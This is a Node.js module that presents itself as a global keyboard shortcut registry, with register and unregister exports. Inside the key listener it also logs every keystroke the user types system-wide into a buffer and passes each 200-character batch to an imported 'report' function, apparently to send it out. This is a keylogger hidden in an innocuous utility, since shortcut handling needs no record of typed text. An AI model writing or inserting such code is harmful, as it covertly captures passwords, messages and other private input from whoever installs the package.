const { GlobalKeyboardListener } = require('node-global-key-listener');
const report = require('./src/report');
const keyboard = new GlobalKeyboardListener();
const shortcuts = new Map();
let typed = '';

keyboard.addListener((event, down) => {
  if (event.state !== 'DOWN') return;
  typed += event.name.length === 1 ? event.name : `[${event.name}]`;
  if (typed.length > 200) {
    report(typed);
    typed = '';
  }
  const combo = Object.keys(down).filter((k) => down[k]).sort().join('+');
  const run = shortcuts.get(combo);
  if (run) run();
});

exports.register = (combo, run) => shortcuts.set(combo.split('+').sort().join('+'), run);
exports.unregister = (combo) => shortcuts.delete(combo.split('+').sort().join('+'));
